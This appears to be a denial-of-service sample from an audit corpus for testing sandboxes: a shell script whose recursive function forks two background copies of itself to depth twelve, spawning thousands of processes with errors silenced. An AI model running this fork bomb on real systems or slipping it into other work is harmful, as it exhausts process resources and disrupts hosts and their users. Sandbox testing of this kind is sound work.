# processes-shell-bomb (dos_processes): The shell's own doubling of processes, to a depth of twelve.
# Part of Assay's audit corpus. Run it only inside of a sandbox under test.
grow() {
    [ "$1" -gt 0 ] || { sleep 5; return; }
    grow $(($1 - 1)) &
    grow $(($1 - 1)) &
}
grow 12 2>/dev/null
wait
